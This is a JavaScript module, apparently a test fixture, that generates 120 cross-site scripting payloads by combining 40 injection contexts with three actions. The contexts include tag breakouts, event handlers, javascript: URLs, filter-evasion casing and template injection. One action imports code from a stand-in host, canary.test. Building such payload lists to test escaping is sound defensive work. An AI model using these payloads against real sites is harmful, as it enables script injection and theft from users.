/*
 * What would run if a page, an email or a data block in a page took a person's text for its own language: markup,
 * attributes, script strings, templates, styles, addresses and comments.
 */

const places = [
  '<script>RUN</script>',
  '</script><script>RUN</script>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '</style><script>RUN</script>',
  '</noscript><script>RUN</script>',
  '<ScRiPt >RUN</sCrIpT >',
  '<script/x>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<svg><script>RUN</script></svg>',
  '<svg/onload=RUN>',
  '<svg><animate onbegin=RUN attributeName=x>',
  '<img src=x onerror=RUN>',
  '<img src=x:x onerror="RUN"//',
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`><img src=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<body onload=RUN>',
  '<iframe srcdoc="<script>RUN</script>">',
  '<iframe src="javascript:RUN">',
  '<object data="javascript:RUN">',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">here</a>',
  '<math><a xlink:href="javascript:RUN">here',
  '<form action="javascript:RUN"><button>here',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN>',
  '<audio src=x onerror=RUN>',
  '<link rel=stylesheet onload=RUN href=/x>',
  '<base href="https://canary.test/?RUN">',
  '<meta http-equiv=refresh content="0;javascript:RUN">',
  '" onmouseover="RUN" autofocus onfocus="RUN" x="',
  "';RUN;//",
  '\\";RUN;//',
  '$\u007bRUN}',
  '{{constructor.constructor("RUN")()}}',
  '<!--><img src=x onerror=RUN>-->',
  '\u2028RUN\u2029//',
];

const deeds = ['alert(1)', 'window.ran=1', "import('//canary.test')"];

/** 120 texts, each of which runs a script where it is taken for more than text; at most 100 characters each. */
export const scriptPayloads = deeds.flatMap((deed) => places.map((place) => place.replaceAll('RUN', deed)));

/** Every place among them once, the deeds in turn. */
export const oneOfEachPlace = places.map((place, index) => place.replaceAll('RUN', deeds[index % deeds.length] ?? ''));
